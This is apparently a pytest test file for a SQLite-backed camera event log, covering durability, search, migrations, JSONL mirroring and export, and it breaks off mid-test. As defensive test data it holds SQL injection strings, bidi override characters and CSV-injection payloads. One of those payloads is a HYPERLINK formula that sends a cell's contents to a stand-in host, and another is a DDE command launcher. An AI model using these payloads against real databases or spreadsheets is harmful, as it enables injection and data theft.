"""The event log: acknowledged means committed, updates by uid, safe search, clean text, migrations, durability."""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import random
import re
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from datetime import datetime, timedelta, timezone

import numpy as np
import pytest

from cli_helpers import run_cli
from edgecap.errors import InputError
from edgecap.events import (MAX_CAPTION_CHARS, SCHEMA_VERSION, Event, EventSink, EventStore, EventStoreError,
                            JsonlSink, export, migrate, parse_time, save_jpeg, search, tail, thumbnail_dir)

T0 = datetime(2024, 5, 1, 10, 0, tzinfo=timezone.utc)


def at(minutes: float) -> datetime:
    return T0 + timedelta(minutes=minutes)


def scene(caption: str, start: float = 0, end: float | None = None, **kw) -> Event:
    kw.setdefault("uid", uuid.uuid4().hex)
    kw.setdefault("camera", "gate")
    return Event(kind="scene", start=at(start), end=None if end is None else at(end), caption=caption, **kw)


def write(db, events, **store_kw) -> list[int]:
    with EventStore(db, **store_kw) as store:
        return [a.wait(10) for a in [store.put(e) for e in events]]


def captions(events) -> list[str]:
    return [e.caption for e in events]


def read_jsonl(path) -> list[dict]:
    """JSON lines as a strict reader sees them: UTF-8, one object per '\\n'-terminated line."""
    data = path.read_bytes()
    assert data.endswith(b"\n")
    return [json.loads(line.decode("utf-8")) for line in data.split(b"\n")[:-1]]


@pytest.fixture()
def db(tmp_path):
    return tmp_path / "events.sqlite"


# -- writing -----------------------------------------------------------------------------------------------------

def test_ack_means_committed_and_visible_to_another_connection(db):
    with EventStore(db) as store:
        acks = [store.put(scene(f"a car number {i}", i)) for i in range(200)]
        other = sqlite3.connect(db)
        ids = []
        for i, ack in enumerate(acks):
            row_id = ack.wait(10)
            # the moment an ack returns, its row is durable and visible to any other connection
            assert other.execute("SELECT caption FROM events WHERE id = ?", (row_id,)).fetchone() == (
                f"a car number {i}",)
            ids.append(row_id)
        other.close()
        assert ids == sorted(set(ids))
        assert store.stats == {"committed": 200, "failed": 0, "dropped": 0, "jsonl_failed": 0, "queued": 0}


def test_times_round_trip_as_utc_to_the_microsecond(db):
    naive = datetime(2024, 5, 1, 12, 0, 0, 123457)
    plus2 = datetime(2024, 5, 1, 14, 0, 0, 5, tzinfo=timezone(timedelta(hours=2)))
    write(db, [Event("a", "scene", "c", naive, end=plus2)])
    (ev,) = search(db)
    assert ev.start == naive.replace(tzinfo=timezone.utc) and ev.start.tzinfo == timezone.utc
    assert ev.end == plus2 and ev.to_json()["end"] == "2024-05-01T12:00:00.000005Z"


def test_same_uid_updates_one_row_and_reindexes_its_caption(db):
    with EventStore(db) as store:
        store.put(scene("a red car parked", 0, 0, uid="s1", observations=1, closed=False)).wait(5)
        store.put(scene("a red car parked", 0, 2, uid="s1", observations=3, closed=False)).wait(5)
        row_id = store.put(scene("a person walking a dog", 0, 5, uid="s1", observations=7)).wait(5)
    (ev,) = search(db)
    assert (ev.id, ev.observations, ev.end, ev.closed) == (row_id, 7, at(5), True)
    assert search(db, "car") == []  # the old caption left the full-text index
    assert [e.id for e in search(db, "persons")] == [row_id]


def test_close_commits_everything_queued_and_is_idempotent(db):
    store = EventStore(db)
    acks = [store.put(scene(f"event {i}", i)) for i in range(500)]
    store.close()
    store.close()
    assert all(a.done() for a in acks)
    assert len({a.wait(0) for a in acks}) == 500
    assert len(search(db, limit=1000)) == 500
    with pytest.raises(EventStoreError, match="closed"):
        store.put(scene("too late"))


def test_disk_full_keeps_events_in_memory_and_retries(db):
    with EventStore(db, retry_max_s=0.05) as store:
        store.put(scene("first")).wait(5)
        real_commit, limit = store._commit, {"pages": store._conn.execute("PRAGMA page_count").fetchone()[0]}

        def commit(batch):  # runs on the writer thread, which owns the connection
            store._conn.execute(f"PRAGMA max_page_count = {limit['pages']}")  # SQLite's own "disk is full"
            return real_commit(batch)

        store._commit = commit
        with store._cond:  # the writer takes all 20 as one batch: one write alone can fit a page's free space
            acks = [store.put(scene("x" * 1500 + f" {i}", i)) for i in range(20)]
        deadline = time.monotonic() + 60  # a bound against a hang; the loop ends as soon as two commits failed
        while store.stats["failed"] < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert store.stats["failed"] >= 2 and not any(a.done() for a in acks)
        assert store.stats["queued"] == 20 and store.stats["dropped"] == 0
        limit["pages"] = 1 << 30  # space again
        assert store.flush(10)
        assert [a.wait(0) for a in acks] == sorted(a.wait(0) for a in acks)
        assert store.stats["committed"] == 21


def test_failing_disk_drops_the_oldest_beyond_the_bound_and_counts_them(db):
    with EventStore(db, retry_max_s=0.05, max_pending=5) as store:
        real_commit, failing = store._commit, threading.Event()
        failing.set()

        def commit(batch):
            if failing.is_set():
                raise sqlite3.OperationalError("database or disk is full")
            return real_commit(batch)

        store._commit = commit
        acks = [store.put(scene(f"event {i}", i)) for i in range(20)]
        for ack in acks[:15]:  # newest wins: the oldest are dropped, their producers told so
            with pytest.raises(EventStoreError, match="dropped"):
                ack.wait(5)
        deadline = time.monotonic() + 5
        while store.stats["failed"] < 1 and time.monotonic() < deadline:
            time.sleep(0.01)
        s = store.stats
        assert (s["dropped"], s["queued"], s["committed"]) == (15, 5, 0) and s["failed"] >= 1
        failing.clear()
        assert store.flush(10)
        assert captions(search(db, limit=100)) == [f"event {i}" for i in range(19, 14, -1)]
        s = store.stats
        assert s["committed"] + s["dropped"] + s["queued"] == 20


def test_a_poison_event_is_dropped_alone_and_does_not_block_the_queue(db):
    with EventStore(db, retry_max_s=0.01) as store:
        real_commit = store._commit

        def commit(batch):
            if any(w.event.uid == "poison" for w in batch):
                raise sqlite3.IntegrityError("constraint failed")
            return real_commit(batch)

        store._commit = commit
        acks = [store.put(scene(f"ok {i}", i)) for i in range(5)]
        bad = store.put(scene("bad", uid="poison"))
        acks += [store.put(scene(f"ok {i}", i)) for i in range(5, 10)]
        with pytest.raises(EventStoreError, match="poison"):
            bad.wait(5)
        assert len({a.wait(5) for a in acks}) == 10
        assert store.stats["dropped"] == 1


def test_close_gives_up_at_its_deadline_when_the_disk_never_recovers(db):
    store = EventStore(db, retry_max_s=0.05)

    def commit(batch):
        raise sqlite3.OperationalError("disk I/O error")

    store._commit = commit
    ack = store.put(scene("never stored"))
    store.close(timeout=0.3)
    assert ack.done()  # only giving up at the deadline settles it: a writer retrying forever leaves it pending
    with pytest.raises(EventStoreError, match="closed before"):
        ack.wait(0)
    assert store.stats["dropped"] == 1 and store.stats["queued"] == 0


# -- bad text ----------------------------------------------------------------------------------------------------

WEIRD = [
    b"invalid \xff\xfe utf-8 \xc3",  # bytes that are not UTF-8
    "lone \ud800 surrogate and a low one \udfff",
    "pair as two code points \ud83d\ude00",
    "controls \x00\x1b[31mred\x07\x7f\x85 tab\tand\nnewline",
    "line separators \u2028 and \u2029 inside a caption",
    "bidi \u202eevil\u202c and \u2067isolated\u2069 overrides",  # shown as "live": a name could show another
    "a" * 100_000,
    "",
]


@pytest.mark.parametrize("text", WEIRD, ids=["bytes", "surrogates", "pair", "controls", "separators", "bidi",
                                             "100k", "empty"])
def test_weird_text_is_stored_as_valid_utf8_everywhere(tmp_path, text):
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    details = {"msg": text, text if isinstance(text, str) else "k": [text, float("nan"), np.float32(1.5),
                                                                     {"deep": text}]}
    ev = Event(uid=f"u{text[:10]!r}", kind="scene", camera=text, start=T0, caption=text, thumbnail=text,
               details=details)
    write(db, [ev, scene(text)], jsonl=jsonl)
    raw = sqlite3.connect(db)
    raw.text_factory = bytes
    for row in raw.execute("SELECT uid, kind, camera, caption, thumbnail, details FROM events"):
        for value in filter(None, row):
            value.decode("utf-8")  # strict: no surrogates, no invalid bytes
            assert b"\x00" not in value and b"\x1b" not in value
    records = read_jsonl(jsonl)
    assert len(records) == 2 and len(jsonl.read_text("utf-8").splitlines()) == 2
    assert all(len(rec["caption"]) <= MAX_CAPTION_CHARS for rec in records)
    (listed,) = [v for v in records[0]["details"].values() if isinstance(v, list)]
    assert listed[1:3] == [None, 1.5]  # NaN would not be JSON; numpy scalars become numbers
    stored = search(db)[1]
    assert "\ud800" not in stored.caption and "\x00" not in stored.caption
    if isinstance(text, str) and "lone" in text:
        assert stored.caption == "lone \ufffd surrogate and a low one \ufffd"
    if isinstance(text, str) and "pair" in text:
        assert stored.caption.endswith("\U0001F600")
    if isinstance(text, str) and "bidi" in text:
        assert stored.caption == stored.camera == "bidi evil and isolated overrides"
        assert records[0]["details"]["msg"] == "bidi evil and isolated overrides"


@pytest.mark.parametrize("bad, message", [
    (dict(uid=""), "uid is empty"),
    (dict(start="2024-05-01"), "must be a datetime"),
    (dict(confidence="high"), "must be a number"),
    (dict(details=["not", "a", "dict"]), "details must be a dict"),
    (dict(observations="many"), "observations must be an integer"),
])
def test_structural_mistakes_fail_fast_in_put(db, bad, message):
    with EventStore(db) as store:
        with pytest.raises(InputError, match=message):
            store.put(Event(**{"uid": "u", "kind": "scene", "camera": "c", "start": T0, **bad}))


# -- search ------------------------------------------------------------------------------------------------------

@pytest.fixture()
def timeline(db):
    write(db, [
        scene("a red car parked in the driveway", 0, 5, camera="gate"),           # 10:00-10:05
        scene("two persons walking a dog", 10, 20, camera="gate"),                # 10:10-10:20
        scene("a white truck on the road", 60, 61, camera="street"),              # 11:00-11:01
        scene("three cars in a parking lot", 120, 130, camera="street"),          # 12:00-12:10
        Event(uuid.uuid4().hex, "source_down", "street", at(30), details={"message": "read timeout"}),
    ])
    return db


@pytest.mark.parametrize("text, kw, expected", [
    (None, {}, ["three cars in a parking lot", "a white truck on the road", None, "two persons walking a dog",
                "a red car parked in the driveway"]),                                      # newest first
    ("cars", {}, ["three cars in a parking lot", "a red car parked in the driveway"]),  # plural finds singular
    ("person", {}, ["two persons walking a dog"]),                                       # singular finds plural
    ("RED   Car", {}, ["a red car parked in the driveway"]),                            # case, spaces, AND
    ("red truck", {}, []),                                                               # all words must match
    ("car", {"camera": "street"}, ["three cars in a parking lot"]),
    (None, {"since": at(4), "until": at(12)}, ["two persons walking a dog",
                                                "a red car parked in the driveway"]),     # overlap, not containment
    (None, {"since": at(20.5), "until": at(59)}, [None]),                               # only the point event
    (None, {"since": "2024-05-01T12:05:00Z"}, ["three cars in a parking lot"]),        # text times accepted
    (None, {"kinds": ["source_down"]}, [None]),
    (None, {"kinds": "scene", "limit": 2}, ["three cars in a parking lot", "a white truck on the road"]),
    ("   ", {"camera": "gate"}, ["two persons walking a dog", "a red car parked in the driveway"]),  # blank = all
])
def test_search_filters(timeline, text, kw, expected):
    assert captions(search(timeline, text, **kw)) == expected


@pytest.mark.parametrize("text", [
    '"', "'", "*", "(", ")", "NEAR", "NEAR(car person, 2)", "-car", "car -truck", "'; DROP TABLE events; --",
    '" OR 1=1 --', "car*", "^car", "caption:car", "{caption}: car", "AND", "OR NOT", "car AND", '"car',
    "\\", "%", "_", "\x00", "\ud800", "\u0301", "a" * 5000, " ".join(["car"] * 500),
], ids=repr)
def test_search_metacharacters_give_results_or_nothing_never_an_error(timeline, text):
    everything = {e.uid: e for e in search(timeline, limit=100)}
    found = search(timeline, text)
    assert {e.uid for e in found} <= set(everything)
    assert all(e == everything[e.uid] for e in found)
    if not re.search(r"[^\W_]", text):  # no word in it: it can match nothing
        assert found == []
    assert len(search(timeline, limit=100)) == 5  # the table is still there


@pytest.mark.parametrize("text", ['"car', "car*", "car'", "(car)", "-car"])
def test_search_syntax_around_a_word_still_finds_the_word(timeline, text):
    assert len(search(timeline, text)) == 2


def test_search_works_while_the_writer_is_running(db):
    with EventStore(db) as store:
        store.put(scene("a cat on a wall")).wait(5)
        for i in range(20):
            store.put(scene(f"busy writer {i}", i))
            assert captions(search(db, "cats")) == ["a cat on a wall"]  # readers never see "database is locked"


def test_search_rejects_bad_limits_and_times(timeline):
    with pytest.raises(InputError, match="limit"):
        search(timeline, limit=0)
    with pytest.raises(InputError, match="cannot read time"):
        search(timeline, since="yesterday")


# -- opening -----------------------------------------------------------------------------------------------------

def _make_path(tmp_path, case):
    if case == "missing directory":
        return tmp_path / "nope" / "events.sqlite"
    if case == "under a regular file":
        (tmp_path / "file").write_text("x")
        return tmp_path / "file" / "events.sqlite"
    if case == "garbage file":
        (tmp_path / "events.sqlite").write_bytes(random.Random(0).randbytes(4096))
        return tmp_path / "events.sqlite"
    if case == "other sqlite database":
        other = sqlite3.connect(tmp_path / "events.sqlite")
        other.execute("CREATE TABLE invoices (id INTEGER)")
        other.commit()
        other.close()
        return tmp_path / "events.sqlite"
    if case == "a directory":
        (tmp_path / "events.sqlite").mkdir()
        return tmp_path / "events.sqlite"
    raise AssertionError(case)


@pytest.mark.parametrize("case, message", [
    ("missing directory", "does not exist"),
    ("under a regular file", "not a directory"),
    ("garbage file", "not a readable SQLite database"),
    ("other sqlite database", "not an edgecap event log"),
    ("a directory", "is a directory"),
])
def test_unusable_paths_raise_one_line_typed_errors(tmp_path, case, message):
    path = _make_path(tmp_path, case)
    with pytest.raises(EventStoreError, match=message) as info:
        EventStore(path)
    assert "\n" not in str(info.value)


@pytest.fixture
def read_only_dir(tmp_path):
    """A directory the process cannot write: a read-only tmpfs mount as root (root ignores permission bits),
    mode 0555 otherwise."""
    if os.name != "posix":
        pytest.skip("POSIX permissions")
    ro = tmp_path / "ro"
    ro.mkdir()
    if os.geteuid() != 0:
        ro.chmod(0o555)
        yield ro
        ro.chmod(0o755)
        return
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs", str(ro)],
                             capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"root, and a read-only tmpfs cannot be mounted here: {mounted.stderr.strip()}")
    try:
        yield ro
    finally:
        subprocess.run(["umount", str(ro)], check=True)


def test_read_only_directory_raises_a_typed_error(read_only_dir):
    with pytest.raises(EventStoreError, match="read-only") as info:
        EventStore(read_only_dir / "events.sqlite")
    assert "\n" not in str(info.value)


@pytest.mark.slow
def test_cli_run_into_a_read_only_directory_fails_in_one_line(read_only_dir, tmp_path):
    from edgecap.synth import render_scene

    frames = tmp_path / "frames"
    frames.mkdir()
    import PIL.Image

    PIL.Image.fromarray(render_scene(1_000_000_123)[0]).save(frames / "a.png")
    proc = subprocess.run([sys.executable, "-m", "edgecap.cli", "run", str(frames), "--model", "demo",
                           "--db", str(read_only_dir / "events.sqlite")], capture_output=True, text=True, timeout=120)
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr
    assert "read-only" in proc.stderr.strip().splitlines()[-1]


def test_readers_report_a_missing_database_in_one_line(tmp_path):
    with pytest.raises(EventStoreError, match="^event database not found: "):
        search(tmp_path / "missing.sqlite")


@pytest.mark.parametrize("case", ["garbage file", "other sqlite database"])
def test_readers_refuse_a_file_that_is_not_an_event_log_in_one_line(tmp_path, case):
    path = _make_path(tmp_path, case)
    for read in (search, lambda p: export(p, "jsonl", io.StringIO()), lambda p: list(tail(p, follow=False)),
                 migrate):
        with pytest.raises(EventStoreError, match="not a readable SQLite|not an edgecap event log") as info:
            read(path)
        assert "\n" not in str(info.value)


def test_a_database_file_without_schema_yet_reads_as_no_events(db, capsys):
    """Bug 11: `edgecap run` has created the file but not committed the schema yet: no events, not an error."""
    db.touch()
    assert search(db) == [] and list(tail(db, follow=False)) == []
    out = io.StringIO()
    assert export(db, "csv", out) == 0 and out.getvalue().startswith("id,uid,kind")
    assert migrate(db) == 0 and db.stat().st_size == 0  # a reader never creates the schema
    code, out, err = run_cli(["events", "migrate", "--db", str(db)], capsys)
    assert code == 0 and "no events yet" in out


def _creating(db) -> sqlite3.Connection:
    """A writer in the middle of creating the log: WAL file, schema written, transaction not committed."""
    from edgecap.events.schema import MIGRATIONS, SCHEMA_VERSION as VERSION

    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("BEGIN IMMEDIATE")
    for step in MIGRATIONS:
        step(conn)
    conn.execute("INSERT INTO schema_version (version) VALUES (?)", (VERSION,))
    return conn


def test_readers_during_schema_creation_see_no_events_and_tail_waits_for_the_log(db):
    """Bug 11, the window itself: readers opening while the schema transaction is open."""
    writer = _creating(db)
    assert search(db, "car") == [] and export(db, "jsonl", io.StringIO()) == 0
    seen: list[Event] = []
    events = tail(db, poll_s=0.01)  # started before the log exists: every write after it appears is new
    reader = threading.Thread(target=lambda: seen.extend(itertools.islice(events, 2)), daemon=True)
    reader.start()
    writer.execute("COMMIT")
    writer.close()
    with EventStore(db) as store:
        store.put(scene("a car", uid="first")).wait(5)
        store.put(scene("a dog", uid="second")).wait(5)
    reader.join(30)
    assert [e.uid for e in seen] == ["first", "second"]
    assert captions(search(db, "car")) == ["a car"]


V1_SCHEMA = """
CREATE TABLE schema_version (version INTEGER NOT NULL);
INSERT INTO schema_version VALUES (1);
CREATE TABLE events (
    id INTEGER PRIMARY KEY AUTOINCREMENT, uid TEXT NOT NULL UNIQUE, kind TEXT NOT NULL, camera TEXT NOT NULL,
    start_unix REAL NOT NULL, end_unix REAL, source_start_s REAL, source_end_s REAL, caption TEXT,
    confidence REAL, observations INTEGER NOT NULL DEFAULT 1, closed INTEGER NOT NULL DEFAULT 1);
CREATE INDEX events_camera_start ON events (camera, start_unix);
CREATE INDEX events_start ON events (start_unix);
"""


def test_a_v1_database_is_migrated_with_rows_kept_and_searchable(db):
    old = sqlite3.connect(db)
    old.executescript(V1_SCHEMA)
    old.executemany("INSERT INTO events (uid, kind, camera, start_unix, end_unix, caption, observations) "
                    "VALUES (?, 'scene', 'gate', ?, ?, ?, ?)",
                    [("old1", T0.timestamp(), at(1).timestamp(), "two cars at the gate", 4),
                     ("old2", at(5).timestamp(), None, "a person with a bag", 1)])
    old.commit()
    old.close()
    with pytest.raises(EventStoreError, match="edgecap events migrate"):  # readers never write
        search(db)
    assert migrate(db) == SCHEMA_VERSION == 4  # v2: thumbnails, details, search; v3: the alert outbox; v4: embeddings
    (car,) = search(db, "car")
    assert (car.uid, car.observations, car.end, car.details, car.thumbnail) == ("old1", 4, at(1), {}, None)
    with EventStore(db) as store:
        store.put(scene("a car again", 10, uid="old2", observations=2)).wait(5)  # updating a migrated row
    assert [e.uid for e in search(db, "car")] == ["old2", "old1"]
    assert [e.uid for e in tail(db, follow=False)] == ["old1", "old2"]


def test_a_newer_schema_is_refused_by_writer_and_readers(db):
    write(db, [scene("a car")])
    raw = sqlite3.connect(db)
    raw.execute("UPDATE schema_version SET version = ?", (SCHEMA_VERSION + 1,))
    raw.commit()
    raw.close()
    for open_it in (EventStore, search):
        with pytest.raises(EventStoreError, match=f"schema v{SCHEMA_VERSION + 1}, newer than"):
            open_it(db)


def test_a_failed_migration_leaves_the_database_unchanged(db, monkeypatch):
    import edgecap.events.schema as schema

    old = sqlite3.connect(db)
    old.executescript(V1_SCHEMA)
    old.execute("INSERT INTO events (uid, kind, camera, start_unix) VALUES ('a', 'scene', 'c', 0)")
    old.commit()
    old.close()

    def broken(conn):
        conn.execute("ALTER TABLE events ADD COLUMN thumbnail TEXT")
        raise sqlite3.OperationalError("simulated crash in the middle of a migration")

    monkeypatch.setattr(schema, "MIGRATIONS", [schema.MIGRATIONS[0], broken])
    with pytest.raises(EventStoreError, match="simulated"):
        EventStore(db)
    raw = sqlite3.connect(db)
    assert raw.execute("SELECT version FROM schema_version").fetchall() == [(1,)]
    assert "thumbnail" not in [r[1] for r in raw.execute("PRAGMA table_info(events)")]
    raw.close()


# -- JSONL mirror ------------------------------------------------------------------------------------------------

def test_jsonl_partial_last_line_is_cut_and_seq_continues(tmp_path):
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    write(db, [scene(f"first run {i}") for i in range(3)], jsonl=jsonl)
    with open(jsonl, "ab") as f:
        f.write(b'{"id": 99, "seq": 4, "caption": "killed mid-wri')  # what kill -9 leaves behind
    write(db, [scene(f"second run {i}") for i in range(2)], jsonl=jsonl)
    records = read_jsonl(jsonl)
    assert [r["seq"] for r in records] == [1, 2, 3, 4, 5]
    assert [r["caption"] for r in records][-2:] == ["second run 0", "second run 1"]


def test_jsonl_records_every_committed_update_with_its_row_id(tmp_path):
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    ids = write(db, [scene("a car", uid="s"), scene("a car", 0, 3, uid="s", observations=3)], jsonl=jsonl)
    records = read_jsonl(jsonl)
    assert {r["id"] for r in records} == set(ids) and len(set(ids)) == 1
    assert records[-1]["observations"] == 3 and records[-1]["end"] == "2024-05-01T10:03:00Z"
    assert Event.from_json(records[-1]) == search(db)[0]


def test_jsonl_mirror_catches_up_after_a_failed_mirror_write(tmp_path, monkeypatch):
    """A mirror write that fails (disk full) loses nothing: the next commit appends the current state of every
    row the mirror missed, in write order, before its own."""
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    real_write, calls = JsonlSink.write, []

    def write(self, rows):
        calls.append(len(rows))
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real_write(self, rows)

    monkeypatch.setattr(JsonlSink, "write", write)
    with EventStore(db, jsonl=jsonl) as store:
        store.put(scene("a car", 0, uid="s1")).wait(10)
        store.put(scene("a dog", 1, uid="s2")).wait(10)  # its mirror write fails
        assert store.stats["jsonl_failed"] == 1
        assert [r["uid"] for r in read_jsonl(jsonl)] == ["s1"]
        store.put(scene("a car", 0, 2, uid="s1", observations=2)).wait(10)  # s1 again, while the mirror lags
        store.put(scene("a bus", 3, uid="s3")).wait(10)
    records = read_jsonl(jsonl)
    # s2 is no longer missing; s1's update follows it (write order), and every row's last line is its latest state
    assert [r["uid"] for r in records] == ["s1", "s2", "s1", "s3"]
    assert records[2]["observations"] == 2 and records[2]["end"] is not None
    assert [r["seq"] for r in records] == [1, 2, 3, 4]
    assert [r["updated"] for r in records] == sorted(r["updated"] for r in records)
    latest = {r["uid"]: Event.from_json(r) for r in records}
    assert sorted(latest.values(), key=lambda e: e.uid) == sorted(search(db), key=lambda e: e.uid)


def test_jsonl_mirror_catches_up_after_kill_between_commit_and_mirror(tmp_path):
    """kill -9 after SQLite committed but before the JSONL line was written: reopening the store appends the
    missing rows, so the mirror holds every committed event."""
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    script = f"""
import os
from datetime import datetime, timezone
import edgecap.events as events
real = events.JsonlSink.write
calls = []
def write(self, rows):
    calls.append(1)
    if len(calls) == 3:
        os._exit(9)  # the third event is committed, its mirror line never written
    return real(self, rows)
events.JsonlSink.write = write
with events.EventStore({str(db)!r}, jsonl={str(jsonl)!r}) as store:
    for i in range(5):
        store.put(events.Event(f"e{{i}}", "scene", "gate", datetime(2024, 5, 1, tzinfo=timezone.utc),
                               caption=f"caption {{i}}")).wait(10)
"""
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 9, proc.stderr
    assert [r["uid"] for r in read_jsonl(jsonl)] == ["e0", "e1"]
    assert len(search(db)) == 3
    EventStore(db, jsonl=jsonl).close()  # opening the store is enough
    assert [r["uid"] for r in read_jsonl(jsonl)] == ["e0", "e1", "e2"]
    with EventStore(db, jsonl=jsonl) as store:
        store.put(scene("after restart", uid="e9")).wait(10)
    records = read_jsonl(jsonl)
    assert [r["uid"] for r in records] == ["e0", "e1", "e2", "e9"] and [r["seq"] for r in records] == [1, 2, 3, 4]


def test_a_mirror_failure_of_any_type_still_acknowledges_the_committed_batch(tmp_path, monkeypatch):
    """Bug 4: an unexpected exception in the post-commit step (here a RuntimeError from the mirror) left the
    batch's acks unresolved and flush() hanging; the batch is committed, so its acks resolve and the writer goes
    on, and the mirror catches up."""
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    real_write, calls = JsonlSink.write, []

    def write(self, rows):
        calls.append(len(rows))
        if len(calls) == 1:
            raise RuntimeError("a bug in the mirror")
        return real_write(self, rows)

    monkeypatch.setattr(JsonlSink, "write", write)
    with EventStore(db, jsonl=jsonl) as store:
        first = store.put(scene("a car", uid="s1"))
        assert first.wait(10) >= 1  # without the fix: TimeoutError, the ack never resolves
        assert store.flush(10)
        assert store.put(scene("a dog", uid="s2")).wait(10) > first.wait(0)  # the writer kept going
        assert store.stats["jsonl_failed"] == 1 and store.stats["committed"] == 2
    assert [r["uid"] for r in read_jsonl(jsonl)] == ["s1", "s2"]  # the mirror caught up


# -- sinks -------------------------------------------------------------------------------------------------------

def test_jsonl_sink_alone_writes_the_lines_the_store_mirrors(tmp_path):
    """The standalone JSONL sink and the store's mirror write the same line for the same event."""
    ev = scene("a red car \u2028 parked", 0, 2, uid="s1", details={"model": "demo", "bad": float("nan")})
    with JsonlSink(tmp_path / "alone.jsonl") as sink, EventStore(tmp_path / "e.sqlite",
                                                                jsonl=tmp_path / "mirror.jsonl") as store:
        assert isinstance(sink, EventSink) and isinstance(store, EventSink)
        assert [s.put(ev).wait(5) for s in (sink, store)] == [1, 1]  # the line's seq; the row id
        assert sink.put(scene("a dog", uid="s2")).wait(5) == 2 and sink.flush(5) and store.flush(5)
    (alone, other), (mirrored,) = read_jsonl(tmp_path / "alone.jsonl"), read_jsonl(tmp_path / "mirror.jsonl")
    assert mirrored["id"] == 1 and alone["id"] is None and "updated" not in alone
    assert {**mirrored, "id": None, "updated": None} == {**alone, "updated": None}
    assert alone["details"] == {"model": "demo", "bad": None} and other["seq"] == 2
    with JsonlSink(tmp_path / "alone.jsonl") as sink:  # reopened: the line numbers continue
        assert sink.put(scene("a bus", uid="s3")).wait(5) == 3


def test_jsonl_sink_reports_a_failed_write_on_the_ack_and_flush(tmp_path, monkeypatch):
    path = tmp_path / "alone.jsonl"
    real_write = JsonlSink.write

    def full(self, rows):
        raise OSError(28, "No space left on device")

    with JsonlSink(path) as sink:
        monkeypatch.setattr(JsonlSink, "write", full)
        ack = sink.put(scene("lost", uid="lost"))
        with pytest.raises(EventStoreError, match="No space left"):
            ack.wait(0)
        assert not sink.flush()
        monkeypatch.setattr(JsonlSink, "write", real_write)
        assert sink.put(scene("kept", uid="kept")).wait(0) == 1 and sink.flush()
    with pytest.raises(EventStoreError, match="closed"):
        sink.put(scene("too late"))
    assert [r["uid"] for r in read_jsonl(path)] == ["kept"]


def test_a_new_jsonl_mirror_on_an_existing_database_starts_with_the_next_write(tmp_path):
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    write(db, [scene("before the mirror", uid="old")])
    write(db, [scene("with the mirror", uid="new")], jsonl=jsonl)
    assert [r["uid"] for r in read_jsonl(jsonl)] == ["new"]
    # a mirror written before lines carried "updated" is not back-filled either
    legacy = tmp_path / "legacy.jsonl"
    legacy.write_text(json.dumps({"id": 1, "uid": "old", "seq": 7}) + "\n")
    write(db, [scene("next", uid="next")], jsonl=legacy)
    assert [(r["uid"], r["seq"]) for r in read_jsonl(legacy)] == [("old", 7), ("next", 8)]


# -- export and tail ---------------------------------------------------------------------------------------------

def test_export_jsonl_and_csv_round_trip(timeline):
    out = io.StringIO()
    assert export(timeline, "jsonl", out) == 5
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [Event.from_json(r) for r in records] == list(reversed(search(timeline)))  # oldest first
    out = io.StringIO()
    export(timeline, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["uid"] for r in rows] == [r["uid"] for r in records]
    for row, rec in zip(rows, records):
        assert row["caption"] == (rec["caption"] or "") and row["start"] == rec["start"]
        assert json.loads(row["details"]) == rec["details"] and row["closed"] == "true"
    with pytest.raises(InputError, match="expected one of: jsonl, csv"):
        export(timeline, "xml", io.StringIO())


def test_csv_export_defuses_spreadsheet_formulas(db):
    """Text a spreadsheet would execute (CSV injection) is exported as text; JSONL keeps it exact."""
    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
    write(db, [scene(c, i, camera=c if i == 0 else "gate") for i, c in enumerate(evil)] + [scene("a red car", 9)])
    out = io.StringIO()
    export(db, "jsonl", out)
    assert [json.loads(line)["caption"] for line in out.getvalue().splitlines()] == evil + ["a red car"]
    out = io.StringIO()
    export(db, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["caption"] for r in rows] == ["'" + c for c in evil] + ["a red car"]
    assert rows[0]["camera"] == "'" + evil[0] and rows[1]["camera"] == "gate"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_tail_backlog_and_since_id(timeline):
    assert captions(tail(timeline, follow=False, last=2)) == ["three cars in a parking lot", None]  # commit order
    assert len(list(tail(timeline, follow=False, last=100))) == 5
    assert captions(tail(timeline, follow=False, since_id=3)) == ["three cars in a parking lot", None]


def test_tail_follows_new_and_updated_events(db):
    with EventStore(db) as store:
        store.put(scene("already there", uid="old")).wait(5)
        seen: list[Event] = []
        events = tail(db, poll_s=0.02, last=0)  # every write committed after this returns will be seen

        def consume():
            for ev in events:
                seen.append(ev)
                if len(seen) == 3:
                    return

        reader = threading.Thread(target=consume, daemon=True)
        reader.start()
        writes = [scene("a dog", uid="new", observations=1), scene("a dog", 0, 1, uid="new", observations=2),
                  scene("already there", 0, 2, uid="old", observations=5)]
        for n, ev in enumerate(writes, 1):
            store.put(ev).wait(5)
            deadline = time.monotonic() + 5  # one write per poll: a poll shows a row's newest state only
            while len(seen) < n and time.monotonic() < deadline:
                time.sleep(0.005)
        reader.join(5)
    assert [(e.uid, e.observations) for e in seen] == [("new", 1), ("new", 2), ("old", 5)]


# -- thumbnails --------------------------------------------------------------------------------------------------

def test_save_jpeg_downscales_and_writes_atomically(db):
    import av

    image = np.zeros((480, 640, 3), np.uint8)
    image[:, :320] = (255, 0, 0)
    path = save_jpeg(thumbnail_dir(db) / "s1.jpg", image, max_side=160)
